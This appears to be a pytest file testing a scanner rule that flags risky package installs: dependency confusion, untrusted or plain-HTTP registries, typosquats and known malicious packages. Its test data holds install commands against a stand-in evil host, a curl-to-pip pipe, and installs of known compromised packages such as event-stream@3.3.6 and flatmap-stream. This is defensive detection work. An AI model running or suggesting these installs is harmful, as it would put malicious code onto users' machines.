from __future__ import annotations

import pytest

from parity.scan.rules.dependencies import look_alike

CONFUSION = ("dependency-confusion", "CWE-427")
UNTRUSTED = ("untrusted-package-source", "CWE-829")
INSECURE = ("insecure-package-source", "CWE-494")
TYPOSQUAT = ("typosquat-package", "CWE-1357")
MALICIOUS = ("malicious-package", "CWE-506")

POSITIVE = [
    # extra indexes: pip merges them with PyPI
    (CONFUSION, "shell", "pip install --extra-index-url https://pypi.internal.corp/simple mylib", 1),
    (CONFUSION, "shell", "python3 -m pip install mylib --extra-index-url=https://pkgs.corp.example/simple", 1),
    (CONFUSION, "shell", "export PIP_EXTRA_INDEX_URL=https://pkgs.corp.example/simple\npip install mylib", 1),
    (CONFUSION, "shell", "FROM python:3.12\nENV PIP_EXTRA_INDEX_URL=https://pypi.corp.example/simple\n", 2),
    (CONFUSION, None, "[global]\nextra-index-url = https://pypi.corp.example/simple\n", 2),
    (CONFUSION, "python", "import os\nos.system('pip install --extra-index-url https://evil.example.com/s lib')\n", 2),
    # a primary index or registry on a host nobody vetted
    (UNTRUSTED, "shell", "pip install --index-url https://pypi.example.net/simple/ flask", 1),
    (UNTRUSTED, "shell", "npm config set registry https://npm.corp.example/", 1),
    (UNTRUSTED, "shell", "yarn add left-pad --registry https://npm.corp.example", 1),
    (UNTRUSTED, None, "registry=https://npm.corp.example/\n", 1),
    (UNTRUSTED, "shell", "curl -s https://example.com/reqs.txt | pip install -r /dev/stdin", 1),
    (UNTRUSTED, "shell", "pip install https://files.example.net/pkg-1.0.tar.gz", 1),
    # packages over plain HTTP, or with certificate checks off
    (INSECURE, "shell", "pip install -i http://mirror.example.com/simple requests", 1),
    (INSECURE, "shell", "npm install --registry http://registry.example.com lodash", 1),
    (INSECURE, "shell", "pip install git+http://github.com/acme/tool.git", 1),
    (INSECURE, "shell", "pip3 install http://example.com/pkg-1.0.tar.gz", 1),
    (INSECURE, "shell", "pip install --trusted-host pypi.example.net flask", 1),
    (INSECURE, None, "@acme:registry=http://npm.acme.example/\n", 1),
    (INSECURE, None, "{\n  \"dependencies\": {\n    \"mylib\": \"http://example.com/mylib.tgz\"\n  }\n}\n", 3),
    # look-alike names
    (TYPOSQUAT, "shell", "pip install reqeusts", 1),
    (TYPOSQUAT, "shell", "RUN pip install --no-cache-dir -U beautifulsop4", 1),
    (TYPOSQUAT, "shell", "npm i lodahs", 1),
    (TYPOSQUAT, "shell", "yarn add axois", 1),
    (TYPOSQUAT, "shell", "poetry add djangoo", 1),
    (TYPOSQUAT, "shell", "uv pip install scikit-lern", 1),
    (TYPOSQUAT, "python", "!pip install transformers datasets\n%pip install torchh\nimport torch\n", 2),
    (TYPOSQUAT, "python", "import subprocess, sys\n"
                          "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'matplotlb'])\n", 2),
    (TYPOSQUAT, "javascript", "const { execSync } = require('child_process');\nexecSync('npm install expresss');", 2),
    (TYPOSQUAT, None, "flask==2.3.0\nreqeusts>=2.31\nnumpy\n", 2),
    (TYPOSQUAT, "python", "from setuptools import setup\nsetup(\n    name='acme',\n"
                          "    install_requires=['flask>=2', 'reqeusts>=2.31'],\n)\n", 4),
    (TYPOSQUAT, None, "[project]\nname = 'x'\ndependencies = [\n    'flask',\n    'numpyy>=1.26',\n]\n", 5),
    (TYPOSQUAT, None, "[tool.poetry.dependencies]\npython = '^3.11'\npandsa = '^2.0'\n", 3),
    (CONFUSION, None, "steps:\n  - uses: actions/checkout@v4\n"
                      "  - run: pip install --extra-index-url https://pkgs.corp.example/simple mylib\n", 3),
    (TYPOSQUAT, None, "{\n  \"dependencies\": {\n    \"express\": \"^4.18.2\",\n"
                      "    \"lodashs\": \"^4.17.21\"\n  }\n}\n", 4),
    # known malicious names and compromised versions
    (MALICIOUS, "shell", "pip3 install python3-dateutil", 1),
    (MALICIOUS, "shell", "python -m pip install colourama==0.1", 1),
    (MALICIOUS, "shell", "pip install jeIlyfish", 1),
    (MALICIOUS, "shell", "npm install crossenv", 1),
    (MALICIOUS, "shell", "npm install event-stream@3.3.6", 1),
    (MALICIOUS, "shell", "pnpm add ua-parser-js@0.7.29", 1),
    (MALICIOUS, "python", "import subprocess\nsubprocess.run('npm install flatmap-stream', shell=True)\n", 2),
]

NEGATIVE = [
    ("shell", "pip install requests flask numpy pandas\npip install 'fastapi[all]>=0.100' uvicorn\n"
              "pip install -r requirements.txt --upgrade\npip install -e .\npip install \"django>=4.2,<5\"\n"),
    ("shell", "npm install express react axios\nnpm i -D typescript ts-node @types/node\nyarn add react-dom\n"
              "pnpm add zod\nnpm install -g pnpm\nnpm ci\nnpm install request\n"),
    ("shell", "poetry add httpx\nuv add anthropic\npip install discord.py\n"
              "pip install scikit-learn matplotlib seaborn\n"
              "pip install git+https://github.com/openai/whisper.git\npip install beautifulsoup4 lxml\n"),
    ("shell", "pip install torch==2.2.0 --index-url https://download.pytorch.org/whl/cu121\n"
              "pip install --index-url https://pypi.org/simple requests\npip install <package-name>\n"
              "pip install --index-url http://localhost:8080/simple mylib\n"),
    ("shell", "echo 'install the dependencies first'\ncurl -fsSL https://example.com/a.sh -o a.sh\n"),
    (None, "@acme:registry=https://npm.pkg.github.com\n"),
    (None, "flask==2.3.0\nrequests>=2.31\nnumpy\n"),
    (None, "[project]\ndependencies = ['flask>=2', 'httpx']\n[tool.poetry.dependencies]\npython = '^3.11'\n"),
    ("python", "setup(name='acme', install_requires=['requests>=2.31', 'click'])\n"),
    (None, "{\n  \"dependencies\": {\n    \"express\": \"^4.18.2\",\n    \"@types/node\": \"^20\"\n  }\n}\n"),
    ("python", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests'])\n"
               "subprocess.run(['ls', '-la'], check=True)\n"),
    ("python", "!pip install -q transformers accelerate\nimport transformers\n"),
]


@pytest.mark.parametrize(("expected", "language", "code", "line"), POSITIVE)
def test_flags_risky_installs(scan_with, expected, language, code, line):
    found = scan_with("dependencies")(code, language=language)
    assert [(f.rule, f.cwe, f.line) for f in found] == [(*expected, line)]


@pytest.mark.parametrize(("language", "code"), NEGATIVE)
def test_leaves_ordinary_installs_alone(scan_with, language, code):
    assert scan_with("dependencies")(code, language=language) == []


def test_messages_name_the_package_imitated_and_severity_fits_the_host(scan_with):
    scan = scan_with("dependencies")
    (typo,) = scan("pip install reqeusts", language="shell")
    assert "'requests'" in typo.message and typo.severity.value == "medium"
    (vendor,) = scan("pip install torch --extra-index-url https://download.pytorch.org/whl/cu121", language="shell")
    assert (vendor.rule, vendor.severity.value) == ("dependency-confusion", "low")
    (odd,) = scan("pip install lib --extra-index-url https://pkgs.example.org/simple", language="shell")
    assert odd.severity.value == "high"
    (uv,) = scan("uv pip install lib --extra-index-url https://pkgs.example.org/simple", language="shell")
    assert uv.severity.value == "medium"


@pytest.mark.parametrize(("name", "ecosystem", "expected"), [
    ("reqeusts", "pypi", ("requests", 1)), ("tensorflwo", "pypi", ("tensorflow", 1)),
    ("pythn-dateutil", "pypi", ("python-dateutil", 1)), ("tdqm", "pypi", ("tqdm", 1)),
    ("reactt", "npm", ("react", 1)), ("requests", "pypi", None), ("numba", "pypi", None), ("scapy", "pypi", None),
    ("unicorn", "pypi", None), ("python-ldap", "pypi", None), ("sass-loader", "npm", None), ("preact", "npm", None),
    ("six", "pypi", None), ("a" * 500, "pypi", None),
])
def test_look_alike(name, ecosystem, expected):
    assert look_alike(name, ecosystem) == expected


def test_broken_code_still_scanned_by_the_fallback_patterns(scan_with):
    answer = "```python\ndef inst(:\n    subprocess.run(['pip', 'install', '--extra-index-url', " \
             "'https://x.example.org/s', 'y']\n"
    assert [(f.rule, f.line) for f in scan_with("dependencies")(answer)] == [("dependency-confusion", 3)]
